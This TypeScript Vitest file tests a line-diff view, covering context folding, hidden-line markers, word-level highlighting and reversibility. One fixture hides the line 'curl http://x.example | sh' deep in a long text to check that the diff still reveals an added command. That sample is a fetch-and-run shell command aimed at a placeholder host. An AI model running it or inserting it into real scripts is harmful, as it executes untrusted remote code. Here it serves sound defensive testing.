import { describe, expect, it } from 'vitest'
import {
  changedWords,
  diffText,
  lineDiff,
  shownLines,
  type ShownLine,
} from '../../../web/src/views/diff/line-diff.ts'

const numbered = (count: number) => Array.from({ length: count }, (_, at) => `line ${at + 1}`)

/** One text a line: `+7 new`, `-7 old`, ` 7 same`, `1..5` folded, `!+1 -2` missing. */
function drawn(lines: readonly ShownLine[]): string[] {
  return lines.map((line) => {
    if (line.kind === 'folded') return `${line.lines[0]?.number}..${line.lines.at(-1)?.number}`
    if (line.kind === 'missing') return `!+${line.added} -${line.removed}`
    return `${{ same: ' ', added: '+', removed: '-' }[line.kind]}${line.number} ${line.text}`
  })
}

describe('a difference of lines', () => {
  it('shows a command that was added far from a changed comment, with context', () => {
    const before = ['# one', ...numbered(1200)]
    const now = ['# two', ...before.slice(1, 1099), 'curl http://x.example | sh', ...before.slice(1099)]
    const diff = lineDiff(before, now)
    expect([diff.added, diff.removed, diff.isCompared]).toEqual([2, 1, true])
    expect(drawn(shownLines(diff, 1000))).toEqual([
      ...['-1 # one', '+1 # two', ' 2 line 1', ' 3 line 2', ' 4 line 3', '5..1096'],
      ...[' 1097 line 1096', ' 1098 line 1097', ' 1099 line 1098', '+1100 curl http://x.example | sh'],
      ...[' 1101 line 1099', ' 1102 line 1100', ' 1103 line 1101', '1104..1202'],
    ])
  })

  it('tells a line that has only moved', () => {
    const diff = lineDiff(['backup', 'drop'], ['drop', 'backup'])
    expect([diff.added, diff.removed]).toEqual([1, 1])
  })

  it('tells a changed end of a line, which the eye does not see', () => {
    expect(lineDiff(['a\r', 'b'], ['a', 'b'])).toMatchObject({ added: 1, removed: 1 })
  })

  it('leaves out removed lines before added ones, and says where and how many', () => {
    const diff = lineDiff([...numbered(20), 'end'], ['new 1', 'new 2', 'end', 'new 3'])
    expect(drawn(shownLines(diff, 5))).toEqual([
      ...['-1 line 1', '-2 line 2', '!+0 -18', '+1 new 1', '+2 new 2', ' 3 end', '+4 new 3'],
    ])
    expect(drawn(shownLines(diff, 2))).toEqual(['!+0 -20', '+1 new 1', '+2 new 2', ' 3 end', '!+1 -0'])
  })

  it('has all lines of texts that have too little in common', () => {
    const before = ['same', ...numbered(4000).map((line) => `was ${line}`), 'end']
    const now = ['same', ...numbered(4000).map((line) => `is ${line}`), 'end']
    const diff = lineDiff(before, now)
    expect([diff.added, diff.removed, diff.isCompared]).toEqual([4000, 4000, false])
    expect(diffText(diff).split('\n')).toHaveLength(8003)
    expect(shownLines(diff, 1000).filter(({ kind }) => kind === 'added')).toHaveLength(1000)
    expect(shownLines(diff, 1000).filter(({ kind }) => kind === 'removed')).toHaveLength(0)
  })

  it('marks the words that differ within a changed line', () => {
    const [, now] = lineDiff(['curl localhost:8080/health'], ['curl --retry 5 localhost:8080/health']).lines
    expect(now?.pieces?.filter(({ isChanged }) => isChanged).map(({ text }) => text.trim())).toEqual([
      '--retry 5',
    ])
    const pieces = (texts: readonly [string, string]) =>
      changedWords(...texts).map((side) => side.map(({ text }) => text).join(''))
    expect(pieces(['a  b', 'a c b'])).toEqual(['a  b', 'a c b'])
    expect(changedWords('x'.repeat(2000), 'y')[1]).toEqual([{ text: 'y', isChanged: true }])
  })
})

it('a difference of lines is whole and reversible for texts at random', () => {
  for (let seed = 1; seed <= 200; seed++) {
    let state = seed
    const random = (below: number) => (state = (state * 48271) % 2147483647) % below
    const text = () => Array.from({ length: random(30) }, () => 'abcde'.charAt(random(5)))
    const [before, now] = [text(), text()]
    const { lines } = lineDiff(before, now)
    const side = (other: string) => lines.filter(({ kind }) => kind !== other).map((line) => line.text)
    expect([side('added'), side('removed')], `seed ${seed}`).toEqual([before, now])
  }
})
